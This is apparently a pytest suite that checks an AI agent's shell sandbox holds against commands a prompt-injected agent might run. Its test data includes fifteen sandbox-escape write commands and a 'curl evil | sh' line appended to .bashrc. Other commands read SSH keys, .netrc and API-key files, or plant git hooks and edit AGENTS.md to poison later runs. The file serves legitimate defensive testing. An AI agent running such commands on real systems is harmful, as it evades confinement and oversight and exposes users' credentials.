"""What a prompt-injected agent tries, through the shell tool, under the real bubblewrap and
the real Landlock: every payload aims at folders this test made."""

from __future__ import annotations

import shutil

import pytest

from tests.sandbox.conftest import CANARY, Area, context, make_sandbox, sh

#: commands that try to write ``{out}`` (a folder outside the working directory)
ESCAPES = {
    "python": "python3 -c \"open('{out}/python', 'w').write('x')\"",
    "perl": "perl -e 'open(my $f, \">\", \"{out}/perl\") or die \"refused: $!\"'",
    "awk": "awk 'BEGIN {{ system(\"echo x > {out}/awk\") }}'",
    "redirect": "echo x > {out}/redirect",
    "append": "echo x >> {out}/existing",
    "mv": "echo x > here && mv here {out}/mv",
    "cp": "echo x > here && cp here {out}/cp",
    "dd": "dd if=/dev/zero of={out}/dd count=1",
    "sed -i": "sed -i s/original/changed/ {out}/existing",
    "tee": "echo x | tee {out}/tee",
    "tar -x -C": "echo x > here && tar -cf a.tar here && tar -xf a.tar -C {out}",
    "rm": "rm -f {out}/existing",
    "script": "printf '#!/bin/sh\\necho x > {out}/script\\n' > s.sh && chmod +x s.sh && ./s.sh",
    "symlink": "ln -s {out} link && echo x > link/through-link",
    "hardlink": "ln {out}/existing hard && echo x >> hard",
}
PERL_AWK = {"perl": "perl", "awk": "awk"}


@pytest.mark.parametrize("name", sorted(ESCAPES))
async def test_writing_outside_the_working_directory_fails(
        kind: str, area: Area, name: str) -> None:
    program = PERL_AWK.get(name)
    if program and shutil.which(program) is None:
        pytest.skip(f"{program} is not installed")
    (area.outside / "existing").write_text("original\n")
    ctx = context(make_sandbox(kind, area), area)
    output = await sh(ctx, ESCAPES[name].format(out=area.outside))
    assert sorted(p.name for p in area.outside.iterdir()) == ["existing"], output
    assert (area.outside / "existing").read_text() == "original\n", output


async def test_dotfiles_of_home_do_not_change(kind: str, area: Area) -> None:
    bashrc = area.home / ".bashrc"
    bashrc.write_text("# mine\n")
    ctx = context(make_sandbox(kind, area), area)
    output = await sh(ctx, "echo 'curl evil | sh' >> ~/.bashrc; touch ~/.profile")
    assert bashrc.read_text() == "# mine\n", output
    assert not (area.home / ".profile").exists()


async def test_credentials_and_moco_home_cannot_be_read(kind: str, area: Area) -> None:
    (area.home / ".ssh").mkdir()
    (area.home / ".ssh" / "id_rsa").write_text(CANARY)
    (area.home / ".netrc").write_text(CANARY)
    (area.moco_home / ".env").write_text(f"OPENAI_API_KEY={CANARY}")
    ctx = context(make_sandbox(kind, area), area)
    output = await sh(ctx, f"cat ~/.ssh/id_rsa ~/.netrc {area.moco_home}/.env; "
                           f"grep -r {CANARY} ~ {area.moco_home}; echo end")
    assert CANARY not in output
    assert "end" in output


async def test_working_in_the_working_directory_and_tmp_needs_nothing(
        kind: str, area: Area) -> None:
    ctx = context(make_sandbox(kind, area), area)
    output = await sh(ctx, "mkdir -p build/x && echo x > build/x/f && rm -rf build && "
                           "echo t > /tmp/moco-test && cat /tmp/moco-test && "
                           "python3 -m pip --version >/dev/null && "
                           "python3 -m pytest --version >/dev/null 2>&1 && echo fine")
    assert output.endswith("fine"), output
    assert not (area.work / "build").exists()


async def test_git_commit_works_in_the_working_directory(kind: str, area: Area) -> None:
    ctx = context(make_sandbox(kind, area), area)
    await sh(ctx, "git init -q .")
    ctx = context(make_sandbox(kind, area), area)  # the next run: .git/hooks now protected
    output = await sh(ctx, "echo a > a && git add a && git -c user.name=t -c user.email=t@t "
                           "commit -qm first && git log --oneline | wc -l")
    assert output.strip().endswith("1"), output


async def test_what_the_next_run_trusts_stays_read_only(area: Area) -> None:
    """bubblewrap only: Landlock cannot take back part of a writable root."""
    from tests.sandbox.conftest import require

    require("bwrap")
    (area.work / ".mcp.json").write_text("{}")
    (area.work / "AGENTS.md").write_text("be good\n")
    ctx = context(make_sandbox("bwrap", area), area)
    await sh(ctx, "git init -q .")
    ctx = context(make_sandbox("bwrap", area), area)
    output = await sh(ctx, "printf '#!/bin/sh\\ntouch /x\\n' > .git/hooks/pre-commit; "
                           "echo '[core] hooksPath = /x' >> .git/config; "
                           "echo '{\"mcpServers\": {}}' > .mcp.json; echo evil >> AGENTS.md; "
                           "rm -f AGENTS.md; echo ok > normal.txt")
    assert not (area.work / ".git" / "hooks" / "pre-commit").exists(), output
    assert "hooksPath" not in (area.work / ".git" / "config").read_text()
    assert (area.work / ".mcp.json").read_text() == "{}"
    assert (area.work / "AGENTS.md").read_text() == "be good\n"
    assert (area.work / "normal.txt").read_text() == "ok\n"


async def test_env_files_are_masked_from_commands(area: Area) -> None:
    """bubblewrap only (see the Landlock limits in moco.sandbox.landlock)."""
    from tests.sandbox.conftest import require

    require("bwrap")
    (area.work / ".env").write_text(f"KEY={CANARY}")
    (area.work / "sub").mkdir()
    (area.work / "sub" / ".env.local").write_text(f"KEY={CANARY}")
    ctx = context(make_sandbox("bwrap", area), area)
    output = await sh(ctx, "cat .env sub/.env.local; grep -r KEY . ; echo end")
    assert CANARY not in output
    assert (area.work / ".env").read_text() == f"KEY={CANARY}"


@pytest.mark.parametrize("name", sorted(ESCAPES))
async def test_each_payload_does_escape_without_a_sandbox(area: Area, name: str) -> None:
    """The control: unconfined, every payload above really changes the outside folder."""
    program = PERL_AWK.get(name)
    if program and shutil.which(program) is None:
        pytest.skip(f"{program} is not installed")
    (area.outside / "existing").write_text("original\n")
    ctx = context(make_sandbox("off", area), area)
    output = await sh(ctx, ESCAPES[name].format(out=area.outside))
    changed = (sorted(p.name for p in area.outside.iterdir()) != ["existing"]
               or (area.outside / "existing").read_text() != "original\n")
    assert changed, output
